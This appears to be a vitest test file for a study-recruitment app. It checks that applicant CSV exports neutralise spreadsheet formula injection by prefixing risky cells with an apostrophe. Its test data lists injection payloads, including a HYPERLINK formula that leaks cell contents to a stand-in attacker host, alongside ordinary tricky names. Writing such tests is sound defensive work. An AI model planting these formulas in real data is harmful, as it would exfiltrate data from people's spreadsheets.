import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { changeOwnAccount } from '@app/contracts/identity/own-account.ts';
import type { SignedInUser } from '@app/contracts/identity/person.ts';
import { codeOf } from '@app/contracts/participant-code.ts';
import { applicantWords } from '@app/words/applicants.ts';
import { exportApplicants, remarkApplicant } from '@app/contracts/project/applicants.ts';
import type { Study } from '@app/contracts/project/studies.ts';
import { startTestApp, type TestApp } from '@app/test/support/app.ts';
import { registerParticipant, registerResearcher } from '@app/test/support/people.ts';
import { readCsv } from '#test/read-csv.ts';
import { apply, makeProject, makePublished, studyBody } from '#test/studies.ts';

let app: TestApp;
let researcher: SignedInUser;
let projectId: string;
beforeAll(async () => {
  app = await startTestApp();
  researcher = await registerResearcher(app, { verified: true });
  projectId = (await makeProject(app, researcher)).id;
});
afterAll(() => app.close());

const save = (study: Pick<Study, 'id'>) =>
  app.call(exportApplicants, { as: researcher, params: { id: study.id } });

/** Texts of somebody who wishes the researcher's spreadsheet ill, and of people with ordinary names. */
const dangerous = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttab',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\u3000＝1+1',
  '﹦1+1',
  '="a"\r\n,"b"',
];
const harmless = [
  'Nana "Kofi" Ama',
  "O'Brien, Jr.",
  'Ɛyɛ ɔkɔtɔ ŋ',
  'a\r\nb\nc',
  'new line\n=1+1',
  'return\r=1+1',
  '👩🏾‍🔬 and 🇬🇭',
  '1 - 2 = -1',
  ' a space before',
  '"',
  ',',
  "'quoted'",
];

describe('cells that a spreadsheet would run', () => {
  test('AP6 questions, answers, names and remarks are text, and every other text is as it was', async () => {
    const texts = [...dangerous, ...harmless];
    const screeners = texts.map((text, index) => ({
      id: `q${String(index).padStart(5, '0')}`,
      question: text,
      options: [
        { id: `a${String(index).padStart(5, '0')}`, answer: text, eligibility: 'QUALIFY' as const },
        { id: `b${String(index).padStart(5, '0')}`, answer: 'no', eligibility: '' as const },
      ],
    }));
    const study = await makePublished(app, researcher, { projectId, screeners });
    const applicant = await registerParticipant(app, { withProfile: true });
    const body = { firstName: '=Ama"', lastName: '+Ɔwusu, Jr', phoneNumber: '' };
    expect((await app.call(changeOwnAccount, { as: applicant, body })).status).toBe(200);
    const application = (await apply(app, applicant, study)).content;
    const params = { id: study.id, applicationId: application.id };
    for (const [index, text] of texts.entries()) {
      await app.call(remarkApplicant, { as: researcher, params, body: { remarks: text } });
      const [header = [], line = []] = readCsv((await save(study)).text);
      const written = index < dangerous.length ? `'${text}` : text;
      const remarks = header.indexOf(applicantWords.file.columns.remarks);
      expect(line[remarks]).toBe(written);
    }
    const [header = [], line = []] = readCsv((await save(study)).text);
    const written = [...dangerous.map((text) => `'${text}`), ...harmless];
    expect(header.slice(-texts.length)).toEqual(written);
    expect(line.slice(-texts.length)).toEqual(written);
    expect(line.slice(1, 4)).toEqual([`'=Ama"`, `'+Ɔwusu, Jr`, codeOf(application.id)]);
  });

  test('a question without text has a header all the same', async () => {
    const [first] = studyBody('').screeners;
    if (!first) throw new Error('The sample asks nothing');
    const study = await makePublished(app, researcher, {
      projectId,
      screeners: [{ ...first, question: '' }],
    });
    expect(readCsv((await save(study)).text)).toEqual([
      [...Object.values(applicantWords.file.columns), applicantWords.blankQuestion],
    ]);
  });
});
